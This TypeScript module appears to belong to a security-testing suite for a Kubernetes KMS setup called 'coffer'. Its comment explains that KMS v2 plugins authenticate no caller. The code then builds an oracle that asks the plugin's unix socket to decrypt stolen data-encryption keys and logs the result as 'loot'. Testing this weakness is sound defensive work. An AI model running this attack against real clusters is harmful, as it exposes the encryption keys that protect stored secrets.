// kms-socket: a process on the node calls the KMS plugin's unix socket, as the API server does. KMS v2 plugins
// authenticate nobody (the socket's file mode is the only guard), so Decrypt unwraps any EDEK the caller holds - the
// attacker still needs the EDEKs, i.e. stored values from another capability. A plugin with a caller secret
// (`coffer up --kms-caller-auth`) answers this caller UNAUTHENTICATED: it has the socket, not the secret.
import { randomUUID } from 'node:crypto';
import { GrpcKmsV2Client } from '../../kms/grpc-v2-client.js';
import type { Attack } from '../attack.js';
import { emptyLoot } from '../loot.js';

export const kmsSocketAttack: Attack = {
  id: 'kms-socket',
  requires: ['kms-socket'],
  async run(target) {
    const loot = emptyLoot();
    const socket = target['kms-socket'];
    if (!socket) return { ...loot, notApplicable: 'no KMS plugin socket' };
    const endpoint = socket.endpoint;
    loot.oracles.push({
      name: `Decrypt on the plugin socket ${endpoint}`,
      async unwrap(o, _provider, signal) {
        const client = new GrpcKmsV2Client(endpoint, { timeoutMs: 5_000 });
        try {
          return Buffer.from(await client.decrypt(o.encryptedDekSource, { uid: randomUUID(), keyId: o.keyId, annotations: o.annotations, signal }));
        } finally {
          client.close();
        }
      },
    });
    loot.notes.push(`Decrypt asked on the plugin socket ${endpoint} without the API server's caller secret`);
    return loot;
  },
};
